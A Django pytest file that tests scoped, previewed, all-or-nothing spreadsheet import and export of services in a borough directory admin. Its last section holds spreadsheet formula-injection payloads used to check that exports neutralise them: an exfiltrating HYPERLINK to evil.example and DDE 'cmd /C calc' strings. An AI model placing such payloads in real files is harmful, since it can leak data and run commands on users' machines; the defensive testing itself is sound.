"""Issue 12, requirements 4 and 8: services to and from spreadsheets (CSV and XLSX) in the
admin, scoped to a commissioner's boroughs, previewed, all or nothing, idempotent."""

import json
from pathlib import Path

import pytest

from directory.commissioning.spreadsheet_previews import PreviewStorage, sign
from directory.commissioning.spreadsheets import COLUMNS
from directory.models import Organisation, Service
from tests.factories import make_service

from .helpers import sign_in
from .spreadsheets import (
    CONFIRM,
    EXPORT,
    FORMAT,
    as_file,
    confirm,
    export,
    import_,
    messages,
    page_text,
    preview,
    problems,
    read_sheet,
)

pytestmark = pytest.mark.django_db

FIXTURE = Path(__file__).resolve().parents[2] / "fixtures" / "directory.json"


def snapshot(service):
    """What a service says, as a user would compare it: its fields, links and pages."""
    from directory.vocabulary import VOCABULARIES

    service = Service.objects.get(slug=service if isinstance(service, str) else service.slug)
    fields = {
        field.attname: getattr(service, field.attname)
        for field in Service._meta.concrete_fields
        if field.attname not in {"id", "uuid", "organisation_id", "created_at", "updated_at"}
        and not field.attname.endswith(("_slugs", "_vector"))
    }
    fields["organisation"] = (service.organisation.slug, service.organisation.name)
    for vocabulary in VOCABULARIES:
        fields[vocabulary.key] = sorted(
            getattr(service, vocabulary.relation).values_list("slug", flat=True)
        )
    fields["pages"] = sorted(service.links.values_list("borough__slug", "url"))
    return fields


# Export: what the commissioner sees, as filtered.


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_gives_only_the_commissioners_services_as_the_list_is_filtered(
    westminster, westminster_service, rbkc_service, kind
):
    draft = make_service(name="Westminster Draft", status="draft", borough=("westminster",))
    assert {row["slug"] for row in export(westminster, kind=kind)} == {
        westminster_service.slug,
        draft.slug,
    }
    assert [row["slug"] for row in export(westminster, "?status__exact=draft", kind)] == [
        draft.slug
    ]


def test_another_boroughs_service_cannot_be_exported_by_address_or_post(
    westminster, westminster_service, rbkc_service
):
    for query in ["?borough=kensington-and-chelsea", "?q=kensington", f"?id={rbkc_service.pk}"]:
        response = westminster.post(f"/admin/directory/service/export/{query}", {"format": "0"})
        assert "Kensington CAMHS" not in response.content.decode(), query
    # As if chosen on the list: the export form posted with the service's id is refused.
    response = westminster.post(
        "/admin/directory/service/export/",
        {"format": "0", "export_items": [rbkc_service.pk, westminster_service.pk]},
    )
    assert "attachment" not in response.get("Content-Disposition", "")
    assert "Kensington CAMHS" not in response.content.decode()
    rows = export(westminster, export_items=[westminster_service.pk])
    assert [row["slug"] for row in rows] == [westminster_service.slug]


def test_the_list_offers_import_and_export_and_the_template(westminster, westminster_service):
    page = westminster.get("/admin/directory/service/?status__exact=published").content.decode()
    assert "/admin/directory/service/import/" in page
    assert 'href="/admin/directory/service/export/?status__exact=published"' in page
    page = westminster.get("/admin/directory/service/import/").content.decode()
    assert "/admin/directory/service/import/template.xlsx" in page
    assert "separated by a comma" in page


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_template_has_one_column_per_field_and_vocabulary(westminster, kind):
    response = westminster.get(f"/admin/directory/service/import/template.{kind}")
    assert response.status_code == 200
    assert f'filename="services-template.{kind}"' in response["Content-Disposition"]
    headers, rows = read_sheet(response.content, kind)
    assert list(headers) == COLUMNS
    assert rows == []
    for column in ["borough", "need", "thrive", "phone", "min_age", "borough_pages"]:
        assert column in headers


# Import: a preview, then a confirmation; checked row by row as the admin's form checks.


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_commissioner_changes_and_adds_services_by_spreadsheet(
    westminster, westminster_service, kind
):
    rows = export(westminster, kind=kind)
    rows[0]["phone"] = "020 7946 0999"
    rows[0]["need"] = "anxiety, Low mood"  # slugs, or names
    rows.append(
        {
            **rows[0],
            "slug": "new-westminster-service",
            "name": "New Westminster Service",
            "organisation": "new-charity",
            "organisation_name": "New Charity",
        }
    )
    page = preview(westminster, rows, kind)
    assert "Nothing has changed yet" in page_text(page)
    assert "New Westminster Service" in page_text(page)
    # Each change with its old and new value; what stays the same is not listed.
    preview_table = page_text(page).split("<h2>Preview</h2>")[1]
    change = preview_table.split("New Westminster Service")[0]
    assert "<code>phone</code>: <del>020 7946 0001</del> → <ins>020 7946 0999</ins>" in change
    assert "<code>summary</code>" not in change and "organisation_name" not in change
    westminster_service.refresh_from_db()
    assert westminster_service.phone == "020 7946 0001"  # a preview changes nothing
    assert not Service.objects.filter(slug="new-westminster-service").exists()
    history = westminster_service.history.count()
    page = confirm(westminster, page)
    assert messages(page) == ["Imported: 1 service added, 1 changed, 0 unchanged."]
    assert westminster_service.history.count() == history + 1  # one version per change
    changed = snapshot(westminster_service)
    assert changed["phone"] == "020 7946 0999"
    assert changed["need"] == ["anxiety", "low-mood"]
    added = snapshot("new-westminster-service")
    assert added["borough"] == ["westminster"]
    assert added["organisation"] == ("new-charity", "New Charity")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_same_file_twice_changes_nothing(westminster, westminster_service, kind):
    shared = make_service(name="Bi-Borough", borough=("westminster", "kensington-and-chelsea"))
    shared.links.create(borough_id=shared.boroughs.first().pk, url="https://example.org/a")
    rows = export(westminster, kind=kind)
    rows[0]["summary"] = "A new summary."
    import_(westminster, rows, kind)
    before = {slug: snapshot(slug) for slug in (westminster_service.slug, shared.slug)}
    history = Service.history.count()
    updated = dict(Service.objects.values_list("slug", "updated_at"))
    page = import_(westminster, rows, kind)
    assert messages(page) == ["Imported: 0 services added, 0 changed, 2 unchanged."]
    assert {slug: snapshot(slug) for slug in before} == before
    assert Service.history.count() == history
    assert dict(Service.objects.values_list("slug", "updated_at")) == updated


def test_a_bad_row_means_nothing_is_imported_and_each_problem_is_said(
    westminster, westminster_service
):
    good = export(westminster)[0]
    rows = [
        {**good, "phone": "020 7946 0999"},
        {**good, "slug": "another", "name": "Another", "borough": "Westminter"},
        {**good, "slug": "a-third", "name": "A Third", "need": "anxeity", "min_age": "eleven"},
    ]
    page = preview(westminster, rows)
    assert page.context.get("confirm_form") is None  # nothing to confirm
    assert problems(page) == [
        "Row 3, borough: 'Westminter' is not a borough — did you mean Westminster?",
        "Row 4, min_age: 'eleven' is not an age: give a whole number from 0 to 25.",
        "Row 4, need: 'anxeity' is not a need — did you mean anxiety (Feeling anxious or worried)?",
    ]
    assert "Nothing was imported" in page_text(page)
    westminster_service.refresh_from_db()
    assert westminster_service.phone == "020 7946 0001"
    assert Service.objects.count() == 1


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"phone": "020 7946 000"}, "Row 2, phone: Enter a UK phone number"),
        ({"website": "kooth dot com"}, "Row 2, website: Enter a valid URL."),
        ({"email": "help@"}, "Row 2, email: Enter a valid email address."),
        ({"max_age": "30"}, "Row 2, max_age: Ensure this value is less than or equal to 25."),
        (
            {"min_age": "18", "max_age": "11"},
            "Row 2: The youngest age cannot be above the oldest age.",
        ),
        ({"summary": "x" * 301}, "Row 2, summary: Ensure this value has at most 300 characters"),
        ({"website": "", "phone": ""}, "Row 2: To publish, give at least one way to get in touch"),
        ({"status": "publised"}, "Row 2, status: 'publised' is not a status — did you mean "),
        ({"thrive": ""}, "Row 2, thrive: To publish, choose a THRIVE category."),
        ({"is_crisis": "yes"}, "Row 2, is_crisis: Only a directory administrator can mark"),
        ({"is_national": "maybe"}, "Row 2, is_national: 'maybe' is not yes or no."),
        ({"boroughs": "x"}, "The column 'boroughs' is not one the directory knows — did you "),
    ],
)
def test_each_problem_is_said_in_plain_words(westminster, westminster_service, changes, problem):
    row = {**export(westminster)[0], **changes}
    page = preview(westminster, [row])
    assert any(said.startswith(problem) for said in problems(page)), problems(page)
    assert snapshot(westminster_service)["phone"] == "020 7946 0001"


def test_a_commissioner_cannot_import_into_another_boroughs_services(
    westminster, westminster_service, rbkc_service, national_service
):
    admin = _administrator_client()
    theirs = export(admin, f"?q={rbkc_service.slug}")[0]
    national = export(admin, f"?q={national_service.slug}")[0]
    mine = export(westminster, f"?q={westminster_service.slug}")[0]
    rows = [
        {**theirs, "phone": "020 7946 0999"},
        {**national, "summary": "Changed."},
        {**mine, "slug": "new-in-rbkc", "borough": "kensington-and-chelsea"},
        {**mine, "is_national": "yes"},
        national,  # unchanged: theirs to read, and nothing changes
    ]
    page = preview(westminster, rows)
    assert problems(page) == [
        f"Row 2: '{rbkc_service.slug}' is another borough's service: you cannot change it.",
        "Row 3: You cannot change 'Kooth': a national service is changed by a directory "
        "administrator.",
        "Row 4, borough: You do not manage Kensington and Chelsea. Ask a directory "
        "administrator to add it.",
        "Row 4, borough: Choose at least one of your boroughs (Westminster).",
        "Row 5, is_national: Only a directory administrator can mark a service as national.",
    ]
    assert snapshot(rbkc_service)["phone"] == "020 7946 0000"
    assert not Service.objects.filter(slug="new-in-rbkc").exists()


def test_a_confirmation_checks_every_row_again(
    westminster, westminster_service, rbkc_service, django_user_model
):
    """A confirmation whose file holds a row the user may not import (as if the preview had
    passed and the file were then changed) is refused row by row, and imports nothing."""
    admin = _administrator_client()
    theirs = {**export(admin, f"?q={rbkc_service.slug}")[0], "phone": "020 7946 0999"}
    mine = {**export(westminster)[0], "phone": "020 7946 0998"}
    storage = PreviewStorage(encoding="utf-8-sig", read_mode="r")
    storage.save(as_file([mine, theirs]).read())
    page = westminster.post(
        CONFIRM,
        {
            "import_file_name": sign(storage.name, django_user_model.objects.get(username="wendy")),
            "original_file_name": "services.csv",
            "format": FORMAT["csv"],
            "resource": "0",
        },
    )
    assert page.status_code == 200
    assert "Nothing was imported" in page_text(page)
    assert problems(page) == [
        f"Row 3: '{rbkc_service.slug}' is another borough's service: you cannot change it."
    ]
    assert snapshot(rbkc_service)["phone"] == "020 7946 0000"
    assert snapshot(westminster_service)["phone"] == "020 7946 0001"  # all or nothing


def test_a_change_between_preview_and_confirmation_stops_the_whole_import(
    westminster, westminster_service
):
    other = make_service(name="Westminster Two", borough=("westminster",))
    rows = export(westminster)
    for row in rows:
        row["opening_hours"] = "Mondays"
    page = preview(westminster, rows)
    assert page.context["confirm_form"] is not None
    Service.objects.filter(pk=other.pk).update(is_national=True)  # now not theirs to change
    page = confirm(westminster, page)
    assert "Nothing was imported" in page_text(page)
    assert [snapshot(s)["opening_hours"] for s in (westminster_service, other)] == ["", ""]


def test_the_import_pages_are_only_for_staff_who_may_change_services(client, django_user_model):
    pages = [
        "/admin/directory/service/import/",
        "/admin/directory/service/import/template.csv",
        "/admin/directory/service/export/",
    ]
    assert [client.get(page).status_code for page in pages] == [302, 302, 302]  # sign in
    # Staff who are not commissioners manage no services: refused.
    sign_in(client, django_user_model.objects.create_user("sam", is_staff=True))
    assert [client.get(page).status_code for page in pages] == [403, 403, 403]
    assert client.post(CONFIRM, {"import_file_name": "x"}).status_code == 403


# The real dataset: exported, and imported into a directory with no services, is the same.


def _administrator_client():
    from io import StringIO

    from django.contrib.auth import get_user_model
    from django.core.management import call_command
    from django.test import Client

    if not get_user_model().objects.filter(username="ada").exists():
        call_command("create_commissioner", "ada", "--all-boroughs", stdout=StringIO())
    client = Client()
    return sign_in(client, get_user_model().objects.get(username="ada"))


def test_the_real_directory_exported_and_imported_into_an_empty_one_is_the_same(
    real_directory, monkeypatch
):
    kind = "xlsx"  # the harder way round: cells have types
    monkeypatch.setenv("COMMISSIONER_PASSWORD", "a long test password")
    # What is tested here is the round trip, not the time it takes on a busy test machine
    # (the time limit: test_import_limits.py).
    monkeypatch.setattr("directory.commissioning.spreadsheets.IMPORT_SECONDS", 600)
    admin = _administrator_client()
    before = {slug: snapshot(slug) for slug in Service.objects.values_list("slug", flat=True)}
    rows = export(admin, kind=kind)
    # Every service in the data file (more are added as boroughs' essentials are found).
    count = len(json.loads(FIXTURE.read_text())["services"])
    assert len(rows) == len(before) == count > 88
    Service.objects.all().delete()
    Organisation.objects.all().delete()
    page = import_(admin, rows, kind)
    assert messages(page) == [f"Imported: {count} services added, 0 changed, 0 unchanged."]
    after = {slug: snapshot(slug) for slug in Service.objects.values_list("slug", flat=True)}
    assert after == before
    # CSV says the same as XLSX, cell for cell (CSV imports are tested row by row above).
    assert export(admin, kind="csv") == export(admin, kind="xlsx") == rows


# Issue 22, requirement 4: an export is safe to open. A cell a spreadsheet program would run
# as a formula is written with an apostrophe first; the import takes it off again.

PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Click")',
    "summary": "+cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
    "opening_hours": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_never_holds_a_formula_and_imports_back_the_same(westminster, kind):
    import csv
    import io

    import openpyxl

    service = make_service(name="x", borough=("westminster",))
    Service.objects.filter(pk=service.pk).update(**PAYLOADS)
    response = westminster.post(EXPORT, {"format": FORMAT[kind], "resource": "0"})
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active  # not data_only
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert cells and all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    else:
        texts = [
            c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
        ]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for payload in PAYLOADS.values():
        assert f"'{payload}" in texts
    # Imported back unchanged, the service is as it was.
    before = snapshot(service)
    page = import_(westminster, read_sheet(response.content, kind)[1], kind)
    assert messages(page) == ["Imported: 0 services added, 0 changed, 1 unchanged."]
    assert snapshot(service) == before
